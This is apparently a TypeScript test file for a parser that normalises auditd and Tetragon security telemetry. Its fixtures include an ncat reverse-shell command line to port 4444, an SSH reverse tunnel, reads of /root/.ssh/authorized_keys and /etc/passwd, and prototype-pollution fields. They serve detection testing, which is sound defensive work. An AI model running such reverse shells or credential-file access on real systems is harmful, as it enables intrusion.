import { expect, test } from 'vitest';
import type { Observation } from '../observation.ts';
import { LONGEST_LINE, makeSensor, readSensor, type SensorKind } from './index.ts';

const hex = (words: string) => Buffer.from(words).toString('hex').toUpperCase();

async function hear(kind: SensorKind, input: string | string[]) {
  const observations: Observation[] = [];
  const problems: { line: number; message: string }[] = [];
  async function* stream() {
    yield* typeof input === 'string' ? [input] : input;
  }
  for await (const heard of readSensor(kind, stream()))
    if ('problem' in heard) problems.push(heard.problem);
    else observations.push(...heard.observations);
  return {
    observations,
    problems,
    of: (category: string) => observations.filter((one) => one.category === category),
  };
}

const audit = (time: string, type: string, rest: string) => `type=${type} msg=audit(${time}): ${rest}`;

const EXECUTION = [
  audit(
    '1700000000.250:41',
    'SYSCALL',
    'arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=66 items=2 ppid=10 pid=11 auid=1000 uid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)',
  ),
  audit(
    '1700000000.250:41',
    'EXECVE',
    `argc=3 a0="ssh" a1=${hex('-R 9000:localhost:22')} a2="user@tunnel.example.net"`,
  ),
  audit('1700000000.250:41', 'CWD', `cwd=${hex('/home/a b')}`),
  audit('1700000000.250:41', 'PATH', 'item=0 name="/usr/bin/ssh" nametype=NORMAL mode=0100755'),
  audit('1700000000.250:41', 'PROCTITLE', `proctitle=${hex('ssh')}`),
];

test('an execution is one observation beside its records, with decoded arguments', async () => {
  const { of, problems } = await hear(
    'auditd',
    EXECUTION.map((line) => `${line}\n`),
  );
  expect(problems).toEqual([]);
  expect(of('process_creation')).toMatchObject([
    {
      time: 1_700_000_000_250_000,
      fields: {
        Image: '/usr/bin/ssh',
        CommandLine: 'ssh -R 9000:localhost:22 user@tunnel.example.net',
        Arguments: ['ssh', '-R 9000:localhost:22', 'user@tunnel.example.net'],
        CurrentDirectory: '/home/a b',
        User: 'root',
        ProcessId: 11,
      },
    },
  ]);
  expect(of('auditd').map(({ fields }) => fields.type)).toEqual([
    'SYSCALL',
    'EXECVE',
    'CWD',
    'PATH',
    'PROCTITLE',
  ]);
  expect(of('auditd')[1]?.fields).toMatchObject({
    type: 'EXECVE',
    a0: 'ssh',
    a1: '-R 9000:localhost:22',
    exe: '/usr/bin/ssh',
  });
  expect(of('auditd')[0]?.fields).toMatchObject({ SYSCALL: 'execve', syscall: '59', a0: '55' });
});

test('parents are known by what they executed before; interleaved events are kept apart', async () => {
  const one = (id: string, pid: number, ppid: number, exe: string) => [
    audit(
      id,
      'SYSCALL',
      `arch=c000003e syscall=59 success=yes ppid=${ppid} pid=${pid} uid=1000 exe="${exe}"`,
    ),
    audit(id, 'EXECVE', `argc=1 a0="${exe.slice(9)}"`),
    audit(id, 'EOE', ''),
  ];
  const first = one('1700000000.001:1', 20, 1, '/usr/bin/bash');
  const [a, b] = [
    one('1700000000.002:2', 21, 20, '/usr/bin/curl'),
    one('1700000000.002:3', 22, 20, '/usr/bin/nc'),
  ];
  const mixed = [...first, a[0], b[0], b[1], a[1], b[2], a[2]].join('\n');
  const { of } = await hear('auditd', mixed);
  expect(of('process_creation').map(({ fields }) => [fields.Image, fields.ParentImage])).toEqual([
    ['/usr/bin/bash', undefined],
    ['/usr/bin/nc', '/usr/bin/bash'],
    ['/usr/bin/curl', '/usr/bin/bash'],
  ]);
});

test('long arguments in pieces are put together', async () => {
  const id = '1700000000.001:1';
  const { of } = await hear(
    'auditd',
    [
      audit(id, 'SYSCALL', 'arch=c000003e syscall=59 success=yes pid=2 exe="/bin/echo"'),
      audit(id, 'EXECVE', `argc=2 a0="echo" a1_len=8 a1[0]=${hex('long')}`),
      audit(id, 'EXECVE', `a1[1]=${hex(' one')}`),
    ].join('\n'),
  );
  expect(of('auditd')).toHaveLength(3);
  expect(of('process_creation')[0]?.fields.Arguments).toEqual(['echo', 'long one']);
});

test('connections and file changes, from raw and transformed records', async () => {
  const id = '1700000000.001:7';
  const raw = await hear(
    'auditd',
    [
      audit(
        id,
        'SYSCALL',
        'arch=c000003e syscall=42 success=no exit=-115 a0=3 pid=9 uid=1000 exe="/usr/bin/curl"',
      ),
      audit(id, 'SOCKADDR', 'saddr=0200115CC63364070000000000000000'),
    ].join('\n'),
  );
  expect(raw.of('network_connection')[0]?.fields).toMatchObject({
    DestinationIp: '198.51.100.7',
    DestinationPort: 4444,
  });

  const transformed = await hear(
    'auditd',
    `${JSON.stringify({
      ID: '1700000000.002:8',
      NODE: 'box.example.com',
      SYSCALL: {
        arch: '0xc000003e',
        syscall: 257,
        success: 'yes',
        pid: 5,
        exe: '/usr/bin/tee',
        SYSCALL: 'openat',
        a2: '0x241',
      },
      CWD: { cwd: '/home/u' },
      PATH: [
        { item: 0, name: '.', nametype: 'PARENT' },
        { item: 1, name: '.bashrc%0a', nametype: 'CREATE', mode: '0100644' },
      ],
    })}\n`,
  );
  expect(transformed.of('file_event')).toMatchObject([
    {
      run: 'box.example.com',
      fields: { TargetFilename: '/home/u/.bashrc\n', Operation: 'create', Image: '/usr/bin/tee' },
    },
  ]);
});

const exec = {
  process_exec: {
    process: {
      exec_id: 'a',
      pid: 77,
      uid: 0,
      cwd: '/work',
      binary: '/usr/bin/ncat',
      arguments: '-e /bin/sh 203.0.113.9 4444',
      auid: 1000,
      pod: { namespace: 'default', name: 'agent-1', container: { id: 'containerd://c0ffee', name: 'agent' } },
    },
    parent: { pid: 70, binary: '/usr/bin/bash', arguments: '-c ncat' },
  },
  node_name: 'node-1.example.com',
  time: '2026-01-02T03:04:05.123456789Z',
};

test('Tetragon: executions with their parents, by container', async () => {
  const { of, problems } = await hear('tetragon', JSON.stringify(exec));
  expect(problems).toEqual([]);
  expect(of('process_creation')).toMatchObject([
    {
      run: 'node-1.example.com',
      cell: 'containerd://c0ffee',
      time: Date.parse('2026-01-02T03:04:05Z') * 1000 + 123_456,
      fields: {
        Image: '/usr/bin/ncat',
        CommandLine: '/usr/bin/ncat -e /bin/sh 203.0.113.9 4444',
        ParentImage: '/usr/bin/bash',
        ParentCommandLine: '/usr/bin/bash -c ncat',
        User: 'root',
        Pod: 'agent-1',
      },
    },
  ]);
});

test('Tetragon: arguments with spaces stay whole', async () => {
  const process = { ...exec.process_exec.process, arguments: '-c "ssh -R 1:localhost:22 x" "" it"s' };
  const { of } = await hear('tetragon', JSON.stringify({ ...exec, process_exec: { process } }));
  expect(of('process_creation')[0]?.fields.Arguments).toEqual([
    '/usr/bin/ncat',
    '-c',
    'ssh -R 1:localhost:22 x',
    '',
    'it"s',
  ]);
});

test('Tetragon: probes on sockets and files; what no one knows is a sensor’s word', async () => {
  const probe = (function_name: string, args: object[]) =>
    JSON.stringify({
      process_kprobe: { process: exec.process_exec.process, function_name, args },
      time: exec.time,
    });
  const { of } = await hear(
    'tetragon',
    [
      probe('tcp_connect', [
        {
          sock_arg: {
            family: 'AF_INET',
            protocol: 'IPPROTO_TCP',
            saddr: '192.0.2.1',
            daddr: '203.0.113.9',
            sport: 5,
            dport: 4444,
          },
        },
      ]),
      probe('security_file_permission', [
        { file_arg: { path: '/root/.ssh/authorized_keys' } },
        { int_arg: 2 },
      ]),
      probe('security_file_permission', [{ file_arg: { path: '/etc/passwd' } }, { int_arg: 4 }]),
      probe('__x64_sys_ptrace', [{ long_arg: '16' }]),
    ].join('\n'),
  );
  expect(of('network_connection')[0]?.fields).toMatchObject({
    DestinationIp: '203.0.113.9',
    DestinationPort: 4444,
    Protocol: 'tcp',
  });
  expect(of('file_event').map(({ fields }) => fields.TargetFilename)).toEqual(['/root/.ssh/authorized_keys']);
  expect(of('sensor').map(({ fields }) => fields.Sensor)).toEqual([
    'tetragon security_file_permission',
    'tetragon sys_ptrace',
  ]);
});

test.each(['auditd', 'tetragon'] as const)(
  '%s: a line that cannot be read is said, and the next is read',
  async (kind) => {
    const good = kind === 'auditd' ? EXECUTION.join('\n') : JSON.stringify(exec);
    const { of, problems } = await hear(
      kind,
      `\u001b]0;x\u0007\n{"a"\n[]\n\n${good}\n${'x'.repeat(LONGEST_LINE + 5)}\n${good}`,
    );
    expect(problems.map(({ line }) => line)).toEqual([1, 2, 3, 5 + (kind === 'auditd' ? 5 : 1)]);
    expect(of('sensor')).toHaveLength(4);
    expect(of('process_creation').length).toBeGreaterThan(0);
  },
);

test('a line beyond the longest that comes in pieces is let go of', async () => {
  const piece = 'y'.repeat(LONGEST_LINE);
  const { problems } = await hear('tetragon', [piece, piece, piece, '\n', JSON.stringify(exec)]);
  expect(problems).toHaveLength(1);
});

test('hostile fields do not reach prototypes, and events without end are bounded', () => {
  const sensor = makeSensor('auditd');
  let seen = 0;
  for (let index = 0; index < 10_000; index++)
    seen += sensor.line(
      audit(`1700000000.001:${index}`, 'PATH', '__proto__="x" constructor="y" name="a"'),
    ).length;
  expect(seen).toBeGreaterThan(9_900);
  expect(({} as Record<string, unknown>).x).toBeUndefined();
});
